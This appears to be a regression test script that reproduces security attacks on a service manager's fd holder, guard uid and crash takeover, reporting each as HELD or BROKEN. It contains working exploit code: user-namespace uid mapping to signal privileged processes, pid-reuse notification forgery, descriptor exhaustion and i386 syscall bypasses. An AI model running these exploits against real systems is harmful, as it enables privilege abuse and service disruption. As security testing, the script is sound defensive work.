@@ -1,0 +1,544 @@
+#!/usr/bin/env python3
+"""Reproducers against the fd holder, the guard uid and the takeover after a crash (see
+README.md in this folder). Prints "HELD name" or "BROKEN name: what happened" per attack;
+exits 1 if any broke.
+
+Usage: attack-holder.py SYSCAGED HELPERS_DIR SYSCAGECTL [NAME...]
+"""
+import importlib.util
+import os
+import signal
+import shutil
+import sys
+import tempfile
+import time
+
+_here = os.path.dirname(os.path.abspath(__file__))
+_spec = importlib.util.spec_from_file_location('service_test',
+                                               os.path.join(_here, '..', 'integration', 'test-service.py'))
+st = importlib.util.module_from_spec(_spec)
+_spec.loader.exec_module(st)
+unit = st.unit
+
+broken = False
+GATED = 'NoNewPrivileges=yes\nSystemCallFilter=~execve execveat\nSystemCallErrorNumber=EPERM\n'
+
+
+def verdict(name, held, what):
+    global broken
+    print(('HELD   %s' % name) if held else ('BROKEN %s: %s' % (name, what)), flush=True)
+    broken = broken or not held
+
+
+def proc_state(pid):
+    try:
+        with open('/proc/%d/stat' % pid) as f:
+            return f.read().rsplit(')', 1)[1].split()[0]
+    except FileNotFoundError:
+        return 'gone'
+
+
+def script(ctx, name, text):
+    """Outside /tmp, which DynamicUser= (PrivateTmp=) hides from the service."""
+    d = tempfile.mkdtemp(prefix='syscage-attack-', dir='/run')
+    os.chmod(d, 0o755)
+    ctx.cleanup_dirs = getattr(ctx, 'cleanup_dirs', []) + [d]
+    path = os.path.join(d, name)
+    with open(path, 'w') as f:
+        f.write(text)
+    return path
+
+
+def verbose(d, name):
+    if os.environ.get('ATTACK_VERBOSE'):
+        print('--- %s\n%s' % (name, d.unit_log(name)))
+        print('\n'.join(l for l in d.daemon_log().split('\n') if 'Mount plan' not in l)[-3000:])
+
+
+# ---------------------------------------------------------------------------------------
+USERNS_GUARD_PY = r"""
+# A gated root service with CAP_SETUID (its filter refuses set*uid(4294967293)) creates a
+# user namespace in a child, maps uid 0 in there to the guard uid from outside (writing
+# uid_map needs CAP_SETUID in the parent namespace, which the service has), and becomes
+# uid 0 in the namespace with setresuid(0, 0, 0): the filter sees 0, the kernel makes the
+# real, effective and saved uid 4294967293. kill() then matches the holder's and the
+# daemon's real uid.
+import ctypes, os, signal, sys
+libc = ctypes.CDLL(None, use_errno=True)
+GUARD = 4294967293
+daemon = os.getppid()
+with open('/proc/%d/stat' % daemon) as f:
+    holder = int(f.read().rsplit(')', 1)[1].split()[1])
+print('daemon', daemon, 'holder', holder, flush=True)
+for t in (daemon, holder):
+    try:
+        os.kill(t, 0)
+        print('direct kill(%d, 0) allowed' % t, flush=True)
+    except OSError as e:
+        print('direct kill(%d, 0): %s' % (t, e), flush=True)
+print('direct setresuid(guard):', libc.setresuid(GUARD, GUARD, GUARD), ctypes.get_errno(), flush=True)
+r, w = os.pipe()
+r2, w2 = os.pipe()
+pid = os.fork()
+if pid == 0:
+    if libc.unshare(0x10000000) != 0:
+        print('unshare(CLONE_NEWUSER) failed', ctypes.get_errno(), flush=True)
+        os._exit(1)
+    os.write(w, b'x')
+    os.read(r2, 1)
+    if libc.setresuid(0, 0, 0) != 0:
+        print('setresuid(0,0,0) in the namespace failed', ctypes.get_errno(), flush=True)
+        os._exit(1)
+    with open('/proc/self/status') as f:
+        print('in the namespace:', [l.strip() for l in f if l.startswith('Uid')][0], flush=True)
+    for t in (daemon, holder):
+        try:
+            os.kill(t, signal.SIGSTOP)
+            print('SIGSTOP sent to %d' % t, flush=True)
+        except OSError as e:
+            print('kill(%d, SIGSTOP): %s' % (t, e), flush=True)
+    os._exit(0)
+os.read(r, 1)
+try:
+    with open('/proc/%d/uid_map' % pid, 'w') as f:
+        f.write('0 %d 1\n' % GUARD)
+    print('uid_map written: 0 -> %d' % GUARD, flush=True)
+except OSError as e:
+    print('uid_map write failed', e, flush=True)
+os.write(w2, b'x')
+os.waitpid(pid, 0)
+with open('/proc/%d/status' % pid if False else '/proc/self/status') as f:
+    pass
+print('done', flush=True)
+"""
+
+
+def userns_guard_run(ctx, label, identity):
+    path = script(ctx, 'userns.py', USERNS_GUARD_PY)
+    units = {'setuid.service': unit(identity + GATED + 'ExecStart=/usr/bin/python3 %s' % path),
+             'other.service': unit('ExecStart=/bin/sleep 1000')}
+    d = ctx.daemon(units, ['other.service'])
+    d.wait_state('other.service', 'active', 'running')
+    daemon = d.daemon_pid()
+    holder = d.proc.pid
+    p = st.ctl(ctx, d, 'start', 'setuid.service')
+    if os.environ.get('ATTACK_VERBOSE'):
+        print('start:', p.returncode, p.stdout, p.stderr)
+    end = time.monotonic() + 10
+    while time.monotonic() < end and not (proc_state(daemon) == 'T' and proc_state(holder) == 'T'):
+        if 'done' in d.unit_log('setuid.service') or 'failed' in d.unit_log('setuid.service'):
+            break
+        time.sleep(0.05)
+    sd, sh = proc_state(daemon), proc_state(holder)
+    stuck = False
+    if sd == 'T':
+        try:
+            st.ctl(ctx, d, 'status', 'other.service')
+        except st.subprocess.TimeoutExpired:
+            stuck = True
+    for pid in (daemon, holder):
+        try:
+            os.kill(pid, signal.SIGCONT)
+        except OSError:
+            pass
+    verbose(d, 'setuid.service')
+    log = d.unit_log('setuid.service')
+    if 'holder' not in log:
+        raise st.Failure('the service did not run: %s' % p.stderr.strip())
+    verdict('%s, CAP_SETUID, user namespace mapping 0 to the guard uid: SIGSTOP the holder and the daemon' % label,
+            sd != 'T' and sh != 'T',
+            'daemon state %s, holder state %s (syscagectl status %s); service log: %s' % (
+                sd, sh, 'timed out' if stuck else 'answered',
+                ' | '.join(l.split(': ', 1)[-1] for l in log.split('\n') if l.strip())))
+    d.stop()
+
+
+def userns_guard_uid(ctx):
+    """A gated root service keeping CAP_SETUID reaches the guard uid through a user namespace
+    and stops the holder and the daemon. Observed: BROKEN (both in state T, syscagectl
+    status times out)."""
+    userns_guard_run(ctx, 'root', 'CapabilityBoundingSet=CAP_SETUID\n')
+
+
+def userns_guard_uid_nobody(ctx):
+    """The same from User=nobody with AmbientCapabilities=CAP_SETUID. Observed: see README."""
+    userns_guard_run(ctx, 'User=nobody', 'User=nobody\nAmbientCapabilities=CAP_SETUID\n'
+                     'CapabilityBoundingSet=CAP_SETUID\n')
+
+
+def userns_guard_uid_dynamic(ctx):
+    """The same from DynamicUser=yes with AmbientCapabilities=CAP_SETUID. Observed: see README."""
+    userns_guard_run(ctx, 'DynamicUser=yes', 'DynamicUser=yes\nUser=atkdyn\nAmbientCapabilities=CAP_SETUID\n'
+                     'CapabilityBoundingSet=CAP_SETUID\n')
+
+
+def userns_no_setuid(ctx):
+    """Control: the same root service without CAP_SETUID cannot write the mapping."""
+    userns_guard_run(ctx, 'root without capabilities', 'CapabilityBoundingSet=\n')
+
+
+def build_helper(ctx, name):
+    """Compiles tests/attacks/NAME.c into a directory outside /tmp."""
+    d = tempfile.mkdtemp(prefix='syscage-attack-', dir='/run')
+    os.chmod(d, 0o755)
+    ctx.cleanup_dirs = getattr(ctx, 'cleanup_dirs', []) + [d]
+    out = os.path.join(d, name)
+    st.subprocess.run(['cc', '-O2', '-o', out, os.path.join(_here, name + '.c')], check=True)
+    return out
+
+
+def notify_pid_reuse(ctx):
+    """Notification attribution by pid: a gated, capless root service (its own unit has
+    NotifyAccess=all) recycles pids until it holds the pid of a process of another unit
+    that has exited (here the victim's ExecStartPre=), then sends STATUS= and MAINPID= with
+    its own pid. manager_find_unit_by_pid() looks at exited pids (recent_pids, main_pid)
+    before the sender's cgroup, and unit_owns_pid() accepts them for MAINPID=: the victim
+    (NotifyAccess=all) takes the attacker's process as its main process. Stopping the
+    victim then signals the attacker's process instead of the victim's own."""
+    helper = build_helper(ctx, 'notify-pid-reuse')
+    target = os.path.join(os.path.dirname(helper), 'target')
+    units = {'victim.service': unit('NotifyAccess=all\nExecStartPre=/bin/true\nExecStart=/bin/sleep 1000'),
+             'attacker.service': unit('NotifyAccess=all\nCapabilityBoundingSet=\n' + GATED +
+                                      "ExecStart=%s %s 'STATUS=forged by the attacker|MAINPID=@SELF@'" % (helper, target))}
+    d = ctx.daemon(units, [])
+    d.wait('victim.service', lambda s: True, 'the daemon', timeout=15)
+    st.ctl(ctx, d, 'start', 'victim.service')
+    s = d.wait_state('victim.service', 'active', 'running')
+    import re
+    pre = [int(m) for m in re.findall(r'victim\.service: Spawned /bin/true as pid (\d+)', d.daemon_log())]
+    if not pre:
+        raise st.Failure('no ExecStartPre= pid in the daemon log')
+    main_before = s.get('MainPID')
+    with open(target, 'w') as f:
+        f.write('%d\n' % pre[-1])
+    st.ctl(ctx, d, 'start', 'attacker.service')
+    try:
+        s = d.wait('victim.service', lambda s: s.get('MainPID') != main_before or
+                   'forged' in s.get('StatusText', ''), 'the forged notification', timeout=60)
+    except st.Failure:
+        pass
+    s = d.status('victim.service')
+    verbose(d, 'attacker.service')
+    if os.environ.get('ATTACK_VERBOSE'):
+        print(s)
+    new_main = s.get('MainPID')
+    cg = ''
+    try:
+        with open('/proc/%s/cgroup' % new_main) as f:
+            cg = f.read().strip().split('\n')[-1]
+    except (OSError, TypeError):
+        pass
+    verdict('a service takes another unit\'s exited pid and notifies as that unit',
+            new_main == main_before and 'forged' not in s.get('StatusText', ''),
+            'victim StatusText=%r, MainPID %s -> %s (a process in %s)' % (
+                s.get('StatusText'), main_before, new_main, cg))
+    d.stop()
+
+
+def mainpid_outside(ctx, crash=False):
+    """MAINPID= accepted for a pid the unit remembers from an exited process: a gated,
+    capless root service whose ExecStartPre= ran as pid P recycles pids until P is the next
+    one and waits until some other process on the host is started (here a plain `sleep`
+    started by the test, standing for any process: a cron job, an administrator's shell,
+    another unit's process), which gets P. It sends MAINPID=P: unit_owns_pid() accepts P (a
+    remembered pid), so its unit adopts that outside process as its main process, and
+    "syscagectl stop" of the attacker's unit kills it."""
+    helper = build_helper(ctx, 'notify-pid-reuse')
+    target = os.path.join(os.path.dirname(helper), 'target')
+    # KillMode=mixed (SIGTERM to the main process, SIGKILL to the rest), as the unit's author
+    # may choose; with the default control-group mode the stop signals only the cgroup (the
+    # outside process is then merely tracked as the main process, and the stop waits for it).
+    units = {'attacker.service': unit('KillMode=mixed\nExecStartPre=/bin/true\nNotifyAccess=main\nCapabilityBoundingSet=\n' +
+                                      GATED + "ExecStart=%s %s 'MAINPID=@TARGET@' arm" % (helper, target))}
+    d = ctx.daemon(units, [])
+    d.wait('attacker.service', lambda s: True, 'the daemon', timeout=15)
+    st.ctl(ctx, d, 'start', 'attacker.service')
+    d.wait_state('attacker.service', 'active', 'running')
+    import re
+    pre = [int(m) for m in re.findall(r'attacker\.service: Spawned /bin/true as pid (\d+)', d.daemon_log())]
+    if not pre:
+        raise st.Failure('no ExecStartPre= pid in the daemon log')
+    with open(target, 'w') as f:
+        f.write('%d\n' % pre[-1])
+    end = time.monotonic() + 120
+    while not os.path.exists(target + '.armed'):
+        if time.monotonic() > end:
+            raise st.Failure('the attacker never armed: %s' % d.unit_log('attacker.service'))
+        time.sleep(0.01)
+    outside = st.subprocess.Popen(['sleep', '1000'])
+    try:
+        with open(target + '.go', 'w'):
+            pass
+        try:
+            d.wait('attacker.service', lambda s: s.get('MainPID') == str(outside.pid), 'the adoption', timeout=5)
+        except st.Failure:
+            pass
+        a = d.status('attacker.service')
+        if crash:
+            # A crash of the daemon: the next one reads the state file, which names the
+            # outside process (pid and start time) as the unit's main process.
+            old = d.daemon_pid()
+            os.kill(old, signal.SIGKILL)
+            end = time.monotonic() + 20
+            while time.monotonic() < end:
+                try:
+                    with open(os.path.join(d.runtime_dir, 'syscaged.pid')) as f:
+                        new = int(f.read().strip())
+                    if new != old and 'Daemon pid %d is ready' % new in d.daemon_log():
+                        break
+                except (OSError, ValueError):
+                    pass
+                time.sleep(0.05)
+            a = d.wait('attacker.service', lambda s: s.get('MainPID') not in (None, ''), 'the takeover')
+        st.ctl(ctx, d, 'stop', 'attacker.service')
+        try:
+            rc = outside.wait(5)
+        except st.subprocess.TimeoutExpired:
+            rc = None
+        verbose(d, 'attacker.service')
+        if os.environ.get('ATTACK_VERBOSE'):
+            print('outside pid', outside.pid, 'returncode', rc, 'status before stop', a)
+            print('\n'.join(l for l in d.daemon_log().split('\n') if 'MAINPID' in l or 'ain process' in l or
+                            'Killing' in l or 'signal' in l.lower()))
+        if outside.pid != pre[-1]:
+            print('SKIP   MAINPID= of an outside process: the outside process got pid %d, not %d (another '
+                  'process took it first; run again)' % (outside.pid, pre[-1]))
+            return
+        verdict('MAINPID= names a remembered exited pid that a host process outside any unit now has' +
+                (', then a daemon crash' if crash else ''),
+                rc is None, 'the host process %d (the attacker\'s ExecStartPre= had that pid) became the '
+                'attacker\'s MainPID=%s, and "syscagectl stop" of the attacker killed it (returncode %s)' % (
+                    outside.pid, a.get('MainPID'), rc))
+    finally:
+        if outside.poll() is None:
+            outside.kill()
+            outside.wait()
+    try:
+        d.stop()
+    except st.Failure as e:
+        # Expected: KillMode=mixed sent SIGTERM to the adopted outside process, not to the
+        # attacker's real process, so the stop waits for TimeoutStopSec= and so does the
+        # daemon's shutdown.
+        print('NOTE   %s (the attacker\'s own process got no SIGTERM; the stop waits for its timeout)' % e)
+
+
+def held_count(pid):
+    try:
+        return len(os.listdir('/proc/%d/fd' % pid))
+    except OSError:
+        return -1
+
+
+def holder_fd_table(ctx):
+    """Fills the fd holder's table (HOLDER_FDS_MAX descriptors) from one unit: a gated,
+    capless root service with KillMode=process, Restart=always, RestartSec=0 and no start
+    limit, whose main process leaves a child behind at each run (gate-leak.c). Every run's
+    exec-gate listener stays in use and is held. Once the table is full, another unit's
+    output pipes are not held any more, and a crash of the daemon loses that unit."""
+    helper = build_helper(ctx, 'gate-leak')
+    limit = int(os.environ.get('ATTACK_HOLDER_FDS', '16384'))
+    # Restarts come about 4 a second; each ExecStartPre= is a launch of its own, with a
+    # listener of its own, so the 64 allowed fill the table in about 250 restarts.
+    pre = ''.join('ExecStartPre=-%s\n' % helper for _ in range(64))
+    units = {'leak.service': unit('Restart=always\nRestartSec=0\nStartLimitIntervalSec=0\nKillMode=process\n'
+                                  'CapabilityBoundingSet=\n' + GATED + pre + 'ExecStart=%s' % helper),
+             'other.service': unit('ExecStart=/bin/sleep 1000')}
+    d = ctx.daemon(units, [])
+    d.wait('leak.service', lambda s: True, 'the daemon', timeout=15)
+    holder = d.proc.pid
+    base = held_count(holder)
+    st.ctl(ctx, d, 'start', 'leak.service')
+    start = time.monotonic()
+    last = 0
+    while time.monotonic() - start < float(os.environ.get('ATTACK_SECONDS', '600')):
+        n = held_count(holder)
+        if n != last and os.environ.get('ATTACK_VERBOSE'):
+            print('%6.1fs holder holds %d fds, leak.service NRestarts=%s' % (
+                time.monotonic() - start, n, d.status('leak.service').get('NRestarts')), flush=True)
+        last = n
+        log = d.daemon_log()
+        if n - base >= limit or 'did not take' in log or 'Too many open files' in log:
+            break
+        time.sleep(1)
+    full = 'did not take' in d.daemon_log()
+    # Observed first: the daemon's own RLIMIT_NOFILE (20000 here) runs out at about 10,000
+    # launches (each kept gate costs it a listener and a pidfd), before the holder's table.
+    p = st.ctl(ctx, d, 'start', 'other.service')
+    if p.returncode != 0:
+        verdict('one unit exhausts the daemon\'s descriptors; another unit cannot start', False,
+                'holder holds %d fds; "syscagectl start other.service": %s' % (held_count(holder), p.stderr.strip()))
+        os.kill(d.daemon_pid(), signal.SIGKILL)  # it could not even stop cleanly; cleanup
+        d.proc.kill()                             # kills what is left in the cgroups
+        d.proc.wait()
+        return
+    st.ctl(ctx, d, 'stop', 'leak.service')
+    d.wait_state('other.service', 'active', 'running')
+    daemon = d.daemon_pid()
+    os.kill(daemon, signal.SIGKILL)  # a crash of the daemon
+    try:
+        s = d.wait('other.service', lambda s: s.get('MainPID') not in (None, '') and
+                   os.path.exists('/proc/%d' % d.daemon_pid()) and d.daemon_pid() != daemon and
+                   (s.get('ActiveState') != 'active' or 'taken over' in d.daemon_log() or True),
+                   'the new daemon', timeout=30)
+        time.sleep(0)  # the condition above is the deadline
+    except st.Failure:
+        pass
+    s = d.status('other.service')
+    warn = [l for l in d.daemon_log().split('\n') if 'did not take' in l or 'no longer has' in l]
+    verdict('one unit fills the fd holder\'s table; another unit is lost at a crash',
+            not full and s.get('ActiveState') == 'active',
+            'held fds %d, holder warnings: %s; other.service after the crash: %s/%s' % (
+                held_count(holder), ' | '.join(warn[:2] + warn[-1:]), s.get('ActiveState'), s.get('SubState')))
+    d.stop()
+
+
+STATUS_PY = r"""
+import os, socket, time
+# Bytes the state file must escape: a backslash before 'n', control bytes, DEL, '=' and a
+# text that looks like entries of the file ("proc=", "cgroup=", "end ").
+text = 'a\\nproc=1 1 main - 0\x01\x1b[31m\x7f=cgroup=/\\\\x41 end 0000000000000000'
+s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+s.sendto(('STATUS=' + text).encode(), os.environ['NOTIFY_SOCKET'])
+print('sent', repr(text), flush=True)
+time.sleep(1000)
+"""
+
+
+def state_file_status(ctx):
+    """STATUS= with bytes that the state file escapes, then daemon-reexec: the unit must come
+    back with the same status text and its own main process, and nothing else."""
+    path = script(ctx, 'status.py', STATUS_PY)
+    units = {'status.service': unit('NotifyAccess=all\nCapabilityBoundingSet=\n' + GATED +
+                                    'ExecStart=/usr/bin/python3 %s' % path)}
+    d = ctx.daemon(units, ['status.service'])
+    before = d.wait('status.service', lambda s: s.get('StatusText'), 'the status text')
+    raw = open(os.path.join(d.runtime_dir, 'state', d._n('status.service') + '.state'), 'rb').read()
+    old = d.daemon_pid()
+    p = st.ctl(ctx, d, 'daemon-reexec')
+    end = time.monotonic() + 15
+    while time.monotonic() < end and 'running' not in d.daemon_log().split('daemon-reexec')[-1]:
+        time.sleep(0.05)
+    after = d.wait_state('status.service', 'active', 'running')
+    if os.environ.get('ATTACK_VERBOSE'):
+        print(raw.decode(errors='replace'))
+        print(p.returncode, p.stdout, p.stderr, before, after)
+    verdict('STATUS= with escapes and fake entries survives daemon-reexec unchanged',
+            after.get('StatusText') == before.get('StatusText') and after.get('MainPID') == before.get('MainPID'),
+            'before %r/%s, after %r/%s' % (before.get('StatusText'), before.get('MainPID'),
+                                           after.get('StatusText'), after.get('MainPID')))
+    d.stop()
+
+
+def mainpid_outside_crash(ctx):
+    """mainpid_outside, with a crash of the daemon between the adoption and the stop: the
+    next daemon takes the outside process back from the state file (its pid and start time
+    match; its cgroup is not looked at) and the stop kills it."""
+    mainpid_outside(ctx, crash=True)
+
+
+def compat_setresuid(ctx):
+    """The guard rules on the i386 calls: a gated root service with CAP_SETUID whose unit
+    allows the x86 ABI calls setresuid32/setuid32 with the guard uid through int $0x80."""
+    helper = build_helper(ctx, 'compat-setresuid')
+    units = {'compat.service': unit('Type=oneshot\nSystemCallArchitectures=native x86\n'
+                                    'CapabilityBoundingSet=CAP_SETUID\n' + GATED + 'ExecStart=%s' % helper)}
+    d = ctx.daemon(units, [])
+    d.wait('compat.service', lambda s: True, 'the daemon', timeout=15)
+    p = st.ctl(ctx, d, 'start', 'compat.service')
+    d.wait('compat.service', lambda s: s.get('ExecMainCode') not in (None, ''), 'the end')
+    log = d.unit_log('compat.service')
+    verbose(d, 'compat.service')
+    if 'kill(' not in log and 'status=11/SEGV' in log:
+        print('SKIP   i386 setresuid32: int $0x80 raises SIGSEGV on this host (no i386 emulation)')
+        d.stop()
+        return
+    if 'kill(' not in log:
+        raise st.Failure('the helper did not run: %s %s' % (p.stderr, log))
+    verdict('i386 setresuid32/setuid32 to the guard uid', '= 0 (' not in log.split('kill(')[1],
+            ' | '.join(l.split(': ', 1)[-1] for l in log.split('\n') if 'stdout' in l))
+    d.stop()
+
+
+REACH_PY = r"""
+# A gated root service without capabilities against the daemon and the holder: calls whose
+# permission check compares the caller's effective uid with the target's effective uid
+# (setpriority, sched_setscheduler, sched_setaffinity, ioprio_set) are not covered by the
+# guard uid, which is the target's real and saved uid only. Also pidfd_getfd and prlimit,
+# which the guard does cover.
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+daemon = os.getppid()
+with open('/proc/%d/stat' % daemon) as f:
+    holder = int(f.read().rsplit(')', 1)[1].split()[1])
+def try_(what, fn):
+    try:
+        r = fn()
+        print('%s: ok %s' % (what, r if r is not None else ''), flush=True)
+    except OSError as e:
+        print('%s: %s' % (what, e), flush=True)
+for name, pid in (('daemon', daemon), ('holder', holder)):
+    try_('setpriority(%s, 19)' % name, lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
+    try_('sched_setscheduler(%s, SCHED_IDLE)' % name, lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))
+    try_('sched_setaffinity(%s, {0})' % name, lambda: os.sched_setaffinity(pid, {0}))
+    # ioprio_set(IOPRIO_WHO_PROCESS, pid, IOPRIO_CLASS_IDLE << 13)
+    def ioprio():
+        if libc.syscall(251, 1, pid, 3 << 13) < 0:
+            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    try_('ioprio_set(%s, IDLE)' % name, ioprio)
+    def getfd():
+        pfd = os.pidfd_open(pid)
+        fd = libc.syscall(438, pfd, 3, 0)
+        if fd < 0:
+            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+        return fd
+    try_('pidfd_getfd(%s, 3)' % name, getfd)
+    try_('prlimit(%s, NOFILE)' % name, lambda: __import__('resource').prlimit(pid, __import__('resource').RLIMIT_NOFILE, (8, 8)))
+print('done', flush=True)
+"""
+
+
+def euid_checks(ctx):
+    """Scheduling and I/O priority of the daemon and the holder from a capless root service."""
+    path = script(ctx, 'reach.py', REACH_PY)
+    units = {'reach.service': unit('Type=oneshot\nCapabilityBoundingSet=\n' + GATED +
+                                   'ExecStart=/usr/bin/python3 %s' % path)}
+    d = ctx.daemon(units, [])
+    d.wait('reach.service', lambda s: True, 'the daemon', timeout=15)
+    st.ctl(ctx, d, 'start', 'reach.service')
+    d.wait('reach.service', lambda s: s.get('ExecMainCode') not in (None, ''), 'the end')
+    log = d.unit_log('reach.service')
+    verbose(d, 'reach.service')
+    with open('/proc/%d/stat' % d.daemon_pid()) as f:
+        fields = f.read().rsplit(')', 1)[1].split()
+    nice, policy = fields[16], fields[38]
+    changed = [l.split('stdout: ', 1)[1] for l in log.split('\n') if ': ok' in l]
+    verdict('a capless root service changes the scheduling of the daemon and the holder', not changed,
+            'calls that succeeded: %s; the daemon now has nice %s, policy %s' % (' | '.join(changed), nice, policy))
+    d.stop()
+
+
+ATTACKS = [userns_guard_uid, userns_guard_uid_nobody, userns_guard_uid_dynamic, userns_no_setuid, notify_pid_reuse, mainpid_outside, mainpid_outside_crash, holder_fd_table, state_file_status, compat_setresuid, euid_checks]
+
+
+def main():
+    if os.geteuid() != 0:
+        print('skipped: needs root')
+        return 77
+    only = sys.argv[4:]
+    for fn in ATTACKS:
+        if only and fn.__name__ not in only:
+            continue
+        ctx = st.Context(sys.argv[1], sys.argv[2], sys.argv[3], fn.__name__)
+        try:
+            fn(ctx)
+        except st.Failure as e:
+            print('ERROR  %s: %s' % (fn.__name__, e))
+        finally:
+            ctx.cleanup(False)
+            for d in getattr(ctx, 'cleanup_dirs', []):
+                shutil.rmtree(d, ignore_errors=True)
+    return 1 if broken else 0
+
+
+if __name__ == '__main__':
+    sys.exit(main())
